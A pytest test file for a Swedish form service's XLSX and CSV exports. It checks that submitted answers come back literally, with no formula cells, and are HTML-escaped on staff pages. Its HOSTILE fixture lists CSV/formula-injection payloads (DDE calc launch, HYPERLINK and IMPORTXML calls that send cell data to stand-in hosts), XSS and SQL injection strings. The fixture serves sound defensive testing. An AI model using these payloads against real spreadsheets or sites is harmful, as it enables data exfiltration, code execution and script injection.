"""Exports: XLSX and CSV re-read here, with headers, rows, types, the summary sheet and its charts;
hostile text comes back literally with no formula cell, and is shown escaped on the staff pages."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import pytest
import sqlalchemy as sa
from helpers import login, open_to_all, submit, text_of
from markupsafe import escape
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from formsvc.aggregate import response_conditions, text_answers
from formsvc.answers import store_answer
from formsvc.audit import AuditEvent
from formsvc.definitions import parse_definition
from formsvc.export import FORMULA_STARTS, csv_text, write_xlsx
from formsvc.extensions import db
from formsvc.invitations.models import Invitation
from formsvc.models import Organisation, Response
from formsvc.staff.models import StaffUser

FORM = """
title: Exportprov
fields:
  - {key: namn, type: text, label: Namn}
  - {key: beskrivning, type: textarea, label: Beskrivning}
  - {key: antal, type: number, label: Antal}
  - {key: datum, type: date, label: Datum}
  - {key: ett, type: choice, label: Ett val, choices: {a: Alfa, b: Beta}}
  - {key: flera, type: multichoice, label: Flera val, choices: {a: Alfa, b: Beta, c: Gamma}}
  - {key: ordning, type: ranking, label: Rangordna, rank: 2, choices: {x: Xylofon, y: Yxa, z: Zebra}}
  - {key: janej, type: yesno, label: Ja eller nej}
  - {key: ok, type: consent, label: Jag samtycker}
  - {key: org, type: organisation, label: Organisation}
"""
HEADERS = [
    "Referens", "Inskickat", "Källa", "Namn", "Beskrivning", "Antal", "Datum", "Ett val", "Flera val: Alfa",
    "Flera val: Beta", "Flera val: Gamma", "Rangordna: plats 1", "Rangordna: plats 2", "Ja eller nej",
    "Jag samtycker", "Organisation",
]  # fmt: skip
FIRST = {
    "namn": "Kim Exempel", "beskrivning": "Rad ett\r\nrad två", "antal": "1 234,5", "datum": "2026-12-24",
    "ett": "b", "flera": ["a", "c"], "ordning": ["z", "x"], "janej": "ja", "ok": "y", "org": "Sala kommun",
}  # fmt: skip
SECOND = {"namn": "Åsa Öberg", "antal": "7", "ett": "a", "flera": ["c"], "ordning": ["y", "z"], "org": "Byalaget"}

# Text people might send that must come back as they wrote it: formula starters, markup, very long text,
# control characters and Swedish letters. (NUL is tested apart: PostgreSQL cannot store it in text.)
HOSTILE = [
    "=1+2", '=HYPERLINK("http://evil.example","klicka")', "=cmd|' /C calc'!A0", "+1+2", "-1+2", "@SUM(A1:A2)",
    "\t=1+2", "\r=1+2", "=", "+", "-", "@", "-5", "+46 70 123 45 67", '=IMPORTXML(CONCAT("http://e.example/?",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")', " =1+2", "'=1+2", "==", "=+-@", "@@", "--1", "=1\n=2", "\ttabb", "\rvagn",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<b>fet</b>", "&amp; &lt;", "{{ 7*7 }}",
    "{% raw %}", "${7*7}", "javascript:alert(1)", "</textarea><script>alert(2)</script>", "<svg onload=alert(3)>",
    "' OR '1'='1", "Robert'); DROP TABLE responses;--", "å" * 5000, "=" + "A" * 4999, "x" * 3000 + "<script>",
    "a\x01b", "\x07klocka", "\x1b[31mröd\x1b[0m", "\x0bvt", "\x0cff", "a\x1f", "\x7fdel", "noll\u200bbredd",
    "\u202eomvänd", "\ufeffbom", "a\uffff", "Åsa Öberg-Ängström", "ÅÄÖ åäö é ü", "Smörgåsbord för 100 % jämställdhet",
    "Malmö – Göteborg — “citat” ‘enkla’", "_x0041_", "_x000D_", "😀 emoji", "line1\r\nline2", "0123", "1e5", "TRUE",
    "2026-01-01", "#REF!", "#N/A",
]  # fmt: skip
MARKUP = [s for s in HOSTILE if "<" in s or "&" in s or '"' in s]


@pytest.fixture
def typed(make_app, tmp_path):
    """An app serving the test form; returns (app, a client logged in as staff)."""
    folder = tmp_path / "forms"
    folder.mkdir()
    (folder / "prov.yaml").write_text(FORM, encoding="utf-8")
    app = make_app(FORMSVC_FORMS_DIR=str(folder))
    with app.app_context():
        user = StaffUser(email="handlaggare@example.org")
        user.set_password("ett långt lösenord 42")
        db.session.add(user)
        db.session.commit()
    client = app.test_client()
    assert login(client, "handlaggare@example.org", "ett långt lösenord 42").status_code == 303
    return app, client


def workbook(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.get_data()))


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_xlsx_has_headers_rows_and_real_types(typed):
    app, client = typed
    for answers in (FIRST, SECOND):
        assert submit(client, "prov", answers).status_code == 303
    response = client.get("/staff/forms/prov/export.xlsx")
    assert response.headers["Content-Disposition"].startswith("attachment; filename=prov-")
    book = workbook(response)
    assert book.sheetnames == ["Svar", "Sammanfattning"]  # nobody was invited: no list of who has not answered
    rows = list(book["Svar"].iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    first, second = rows[1], rows[2]
    assert isinstance(first[1], datetime)
    assert first[2] == second[2] == "öppen länk"
    assert first[3:] == ("Kim Exempel", "Rad ett\r\nrad två", 1234.5, datetime(2026, 12, 24), "Beta", "Ja", None,
                         "Ja", "Zebra", "Xylofon", "Ja", "Ja", "Sala kommun")  # fmt: skip
    assert second[3:] == ("Åsa Öberg", None, 7, None, "Alfa", None, None, "Ja", "Yxa", "Zebra", None, "Nej", "Byalaget")
    cells = {cell.column_letter: cell for cell in book["Svar"][2]}
    assert cells["F"].data_type == "n" and cells["G"].is_date and cells["B"].is_date


def test_summary_sheet_has_the_counts_and_a_bar_chart_per_choice_question(typed):
    app, client = typed
    for answers in (FIRST, SECOND, {**SECOND, "org": "Tredje", "ett": "a", "flera": ["a", "c"]}):
        assert submit(client, "prov", answers).status_code == 303
    response = client.get("/staff/forms/prov/export.xlsx")
    summary = [row for row in workbook(response)["Sammanfattning"].iter_rows(values_only=True)]
    flat = [tuple(v for v in row if v is not None) for row in summary]
    assert flat[0] == ("Exportprov",) and flat[1] == ("Antal svar", 3)
    ett = flat.index(("Ett val",))
    assert flat[ett + 1 : ett + 4] == [("Alternativ", "Antal", "Andel"), ("Alfa", 2, 2 / 3), ("Beta", 1, 1 / 3)]
    flera = flat.index(("Flera val",))
    assert flat[flera + 2 : flera + 5] == [("Alfa", 2, 2 / 3), ("Beta", 0, 0), ("Gamma", 3, 1)]
    ordning = flat.index(("Rangordna",))
    # Points 2-1 for a top two: Zebra 2+1+1, Yxa 2+2 (a tie: shared first place, more mentions first), Xylofon 1
    assert flat[ordning + 1 : ordning + 5] == [
        ("Alternativ", "Poäng", "Omnämnanden", "Plats", "Delad plats"),
        ("Zebra", 4, 3, 1, "Ja"), ("Yxa", 4, 2, 1, "Ja"), ("Xylofon", 1, 1, 3, "Nej"),
    ]  # fmt: skip
    archive = zipfile.ZipFile(io.BytesIO(response.get_data()))
    charts = [name for name in archive.namelist() if name.startswith("xl/charts/chart")]
    assert len(charts) == 4  # one choice, one multiple choice, one ranking, one yes/no
    chart = archive.read(charts[0]).decode()
    assert "<barChart>" in chart and "'Sammanfattning'!$B$" in chart  # a native chart over the table's numbers
    assert len(workbook(response)["Sammanfattning"]._charts) == 4


def test_the_sheet_of_invited_organisations_that_have_not_answered(typed):
    """"Ej svarat" lists who was asked (invited) and has not answered; not the whole register."""
    app, client = typed
    with app.app_context():
        db.session.add_all(
            Organisation(name=name, name_key=name.lower(), type=kind, contact_email=email)
            for name, kind, email in [("Sala kommun", "kommun", "sala@example.org"),
                                      ("Polisen", "myndighet", "polisen@example.org"),
                                      ("Arboga kommun", "kommun", "arboga@example.org")]
        )
        db.session.flush()
        invited = db.session.scalars(sa.select(Organisation).where(Organisation.name != "Arboga kommun"))
        db.session.add_all(Invitation(form_slug="prov", organisation=o, created_by="test") for o in invited)
        db.session.commit()
    assert submit(client, "prov", FIRST).status_code == 303
    rows = list(workbook(client.get("/staff/forms/prov/export.xlsx"))["Ej svarat"].iter_rows(values_only=True))
    # The invited organisation that has not answered; not the one in the register that nobody asked.
    assert rows == [("Organisation", "Typ", "Kontaktperson", "E-post"),
                    ("Polisen", "Statlig myndighet", None, "polisen@example.org")]


def test_a_form_without_an_organisation_question_has_no_such_sheet(app, staff_client):
    book = workbook(staff_client.get("/staff/forms/prioritering/export.xlsx"))
    assert book.sheetnames == ["Svar", "Sammanfattning"]


def test_csv_in_utf8_with_bom_and_semicolons(typed):
    app, client = typed
    for answers in (FIRST, SECOND):
        assert submit(client, "prov", answers).status_code == 303
    response = client.get("/staff/forms/prov/export.csv")
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0] == HEADERS
    assert rows[1][2:] == ["öppen länk", "Kim Exempel", "Rad ett\r\nrad två", "1234,5", "2026-12-24", "Beta", "Ja",
                           "", "Ja", "Zebra", "Xylofon", "Ja", "Ja", "Sala kommun"]  # fmt: skip
    assert rows[2][3:7] == ["Åsa Öberg", "", "7", ""]
    assert len(rows) == 3


def test_answers_under_older_versions_still_export(typed):
    app, client = typed
    older = parse_definition(
        {
            "title": "Exportprov",
            "fields": [
                {"key": "namn", "type": "text", "label": "Ditt namn"},
                {"key": "ett", "type": "choice", "label": "Ett val", "choices": {"a": "Alfa", "g": "Gammal"}},
                {"key": "kommun", "type": "text", "label": "Kommun"},
            ],
        },
        "prov",
    )
    with app.test_request_context():
        store_answer(older, {"namn": "Från förr", "ett": "g", "kommun": "Sala"}, "older-1")
    assert submit(client, "prov", FIRST).status_code == 303
    rows = list(workbook(client.get("/staff/forms/prov/export.xlsx"))["Svar"].iter_rows(values_only=True))
    # current questions first, then what only older versions had, marked as removed
    assert list(rows[0]) == HEADERS + ["Kommun (borttagen)"]
    assert rows[1][3] == "Från förr" and rows[1][7] == "Gammal (borttagen)" and rows[1][-1] == "Sala"
    assert rows[2][3] == "Kim Exempel" and rows[2][-1] is None
    csv_first = csv_rows(client.get("/staff/forms/prov/export.csv"))[1]
    assert csv_first[3] == "Från förr" and csv_first[-1] == "Sala"


def test_hostile_text_comes_back_literally_with_no_formula_and_is_escaped_on_staff_pages(typed):
    app, client = typed
    assert len(HOSTILE) >= 50
    for n, text in enumerate(HOSTILE):
        response = submit(client, "prov", {"namn": f"Prov {n}", "beskrivning": text, "org": f"Org {n}"})
        assert response.status_code == 303, (n, text_of(response)[:300])
    with app.app_context():
        stored = [r.answers["beskrivning"] for r in db.session.scalars(sa.select(Response).order_by(Response.id))]
    assert stored == HOSTILE  # what the form stored is what was sent

    export = client.get("/staff/forms/prov/export.xlsx")
    book = workbook(export)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    column = [row[4] for row in book["Svar"].iter_rows(min_row=2, values_only=True)]
    for sent, cell in zip(HOSTILE, column, strict=True):
        # Characters XML cannot hold are written as Excel's _xHHHH_ escapes, which Excel reads back as sent.
        assert unescape(cell) == sent
        if "_x" not in cell:
            assert cell == sent
    formulas = [c for c in book["Svar"]["E"][1:] if c.value.startswith(FORMULA_STARTS)]
    assert formulas and all(c.data_type == "s" and c.quotePrefix for c in formulas)

    rows = csv_rows(client.get("/staff/forms/prov/export.csv"))
    for sent, row in zip(HOSTILE, rows[1:], strict=True):
        assert row[4] == ("'" + sent if sent.startswith(FORMULA_STARTS) else sent)

    with app.app_context():
        references = list(db.session.scalars(sa.select(Response.reference).order_by(Response.id)))
    pages = [client.get(f"/staff/forms/prov/responses/{ref}").get_data(as_text=True) for ref in references]
    pages += [client.get(f"/staff/forms/prov/results/beskrivning?page={n}").get_data(as_text=True) for n in (1, 2)]
    pages.append(client.get("/staff/forms/prov/results").get_data(as_text=True))
    pages.append(client.get("/staff/forms/prov/organisations").get_data(as_text=True))
    everything = "\n".join(pages)
    for sent in MARKUP:
        assert sent not in everything, sent
        assert str(escape(sent)) in everything, sent


def test_nul_and_other_formula_starters_at_the_cell_level(app):
    """NUL cannot come through the form into PostgreSQL; the cell writers still make it safe."""
    for text in ("\0=1+2", "=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_text(text) == "'" + text
    assert csv_text("ok") == "ok" and csv_text(-5) == "-5" and csv_text(2.5) == "2,5"
    definition = parse_definition({"title": "N", "fields": [{"key": "t", "type": "textarea", "label": "=T"}]}, "n")
    with app.test_request_context():
        store_answer(definition, {"t": "\0=1+2"}, "nul-1")
        store_answer(definition, {"t": "utan"}, "nul-2")
        target = io.BytesIO()
        write_xlsx(definition, target)
        # The results page's free-text list still reads it (PostgreSQL cannot turn NUL into text).
        listed = [a.text for a in text_answers(definition.fields[0], response_conditions(definition), 10)]
    assert listed == ["utan", "\ufffd=1+2"]
    target.seek(0)
    sheet = load_workbook(target)["Svar"]
    header, value = sheet["D1"], sheet["D2"]
    assert header.value == "=T" and header.data_type == "s"
    assert value.value == "_x0000_=1+2" and value.data_type == "s" and unescape(value.value) == "\0=1+2"
    assert sheet["D3"].value == "utan"


def test_exports_are_written_to_the_audit_log(app, staff_client):
    assert staff_client.get("/staff/forms/prioritering/export.xlsx").status_code == 200
    assert staff_client.get("/staff/forms/prioritering/export.csv").status_code == 200
    with app.app_context():
        events = db.session.execute(
            sa.select(AuditEvent.actor, AuditEvent.target, AuditEvent.detail).filter_by(action="export")
        ).all()
    assert [(e.actor, e.target, e.detail["format"]) for e in events] == [
        ("handlaggare@example.org", "prioritering", "xlsx"),
        ("handlaggare@example.org", "prioritering", "csv"),
    ]


def test_unknown_form_export_is_404(staff_client):
    assert staff_client.get("/staff/forms/finnsinte/export.xlsx").status_code == 404
    assert staff_client.get("/staff/forms/finnsinte/export.csv").status_code == 404


def test_export_command_writes_xlsx_or_csv_by_suffix(app, client, runner, tmp_path):
    open_to_all(app)
    assert submit(client, "prioritering", {"prioriteringar": ["folkhalsa", "barnratt", "demokrati"]}).status_code == 303
    result = runner.invoke(args=["export", "prioritering", "-o", str(tmp_path / "ut.xlsx")])
    assert result.exit_code == 0, result.output
    rows = list(load_workbook(tmp_path / "ut.xlsx")["Svar"].iter_rows(values_only=True))
    assert rows[1][3:6] == ("Folkhälsa och jämlik hälsa", "Barnrättsperspektivet", "Demokrati och delaktighet")
    result = runner.invoke(args=["export", "prioritering", "-o", str(tmp_path / "ut.csv")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "ut.csv").read_bytes().startswith("\ufeffReferens;Inskickat;Källa;".encode())
    bad = runner.invoke(args=["export", "prioritering", "-o", str(tmp_path / "ut.pdf")])
    assert bad.exit_code == 2 and ".xlsx or .csv" in bad.output
    unknown = runner.invoke(args=["export", "finnsinte", "-o", str(tmp_path / "ut.csv")])
    assert unknown.exit_code == 2 and "no form 'finnsinte'" in unknown.output
    with app.app_context():
        actors = list(db.session.scalars(sa.select(AuditEvent.actor).filter_by(action="export")))
    assert actors == ["system", "system"]


def test_dates_in_the_export_are_swedish_wall_clock_time(app, client, staff_client):
    open_to_all(app)
    assert submit(client, "prioritering", {"prioriteringar": ["folkhalsa", "barnratt", "demokrati"]}).status_code == 303
    with app.app_context():
        response = db.session.scalar(sa.select(Response))
        response.submitted_at = datetime.fromisoformat("2026-07-01T10:00:00+00:00")
        db.session.commit()
    book = workbook(staff_client.get("/staff/forms/prioritering/export.xlsx"))
    row = list(book["Svar"].iter_rows(values_only=True))[1]
    assert row[1] == datetime(2026, 7, 1, 12, 0)  # summer time: UTC+2
    assert csv_rows(staff_client.get("/staff/forms/prioritering/export.csv"))[1][1] == "2026-07-01 12:00"
    assert date(2026, 7, 1) == row[1].date()
